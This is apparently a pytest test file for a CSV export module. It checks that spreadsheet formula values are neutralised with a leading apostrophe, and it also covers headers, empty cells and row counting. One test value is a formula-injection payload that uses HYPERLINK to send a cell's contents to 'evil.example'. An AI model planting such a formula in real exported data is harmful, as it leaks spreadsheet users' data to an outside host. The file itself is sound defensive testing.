"""CSV files for spreadsheets: every value arrives unchanged, and none runs as a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ddp.csv_files import writing


class Target:
    """Keeps what it is given, piece by piece."""

    def __init__(self) -> None:
        self.pieces: list[bytes] = []

    def write(self, data: bytes) -> None:
        self.pieces.append(data)

    def content(self) -> bytes:
        return b"".join(self.pieces)

    def rows(self) -> list[list[str]]:
        return list(csv.reader(io.StringIO(self.content().decode("utf-8-sig"), newline="")))


def written(*portions: list[tuple[str | None, ...]]) -> Target:
    target = Target()
    writing.write(target, ["email", "name"], portions)
    return target


def test_a_file_begins_with_one_byte_order_mark_and_its_header() -> None:
    content = written([("ann@example.com", "Zoë")], [("bob@example.com", "Bob")]).content()
    assert content.startswith(b"\xef\xbb\xbfemail,name\r\n")
    assert content.count(b"\xef\xbb\xbf") == 1
    assert "Zoë" in content.decode()


@pytest.mark.parametrize(
    "value", ["=1+1", "+41 44", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example/?"&A1)']
)
def test_formulas_become_text(value: str) -> None:
    assert written([(value, "x")]).rows() == [["email", "name"], [f"'{value}", "x"]]


@pytest.mark.parametrize("value", ["a=1", "1-1", "ann@example.com", "'quoted", " =1", ""])
def test_other_values_stay_as_they_are(value: str) -> None:
    assert written([(value, "x")]).rows()[1:] == [[value, "x"]]


def test_headings_are_values_too() -> None:
    target = Target()
    writing.write(target, ["=1", "b"], [])
    assert target.rows() == [["'=1", "b"]]


def test_nothing_is_an_empty_cell() -> None:
    assert written([("a", None)]).rows()[1:] == [["a", ""]]


def test_rows_are_counted_over_all_portions_and_without_the_header() -> None:
    assert writing.write(Target(), ["a"], [[("1",), ("2",)], [], [("3",)]]) == 3
    assert writing.write(Target(), ["a"], []) == 0


def test_each_portion_is_written_before_the_next_is_asked_for() -> None:
    target = Target()

    def portions() -> Iterator[list[tuple[str]]]:
        for n in range(3):
            assert len(target.pieces) == 2 + n, "the mark, the header, and a piece per portion"
            yield [(str(n),)]

    assert writing.write(target, ["a"], portions()) == 3


@given(st.lists(st.text(st.characters(codec="utf-8")), min_size=1, max_size=5))
def test_no_text_breaks_a_row(values: list[str]) -> None:
    target = Target()
    writing.write(target, ["h"] * len(values), [[tuple(values)]])
    (row,) = target.rows()[1:]
    assert [read.removeprefix("'") for read in row] == [value.removeprefix("'") for value in values]
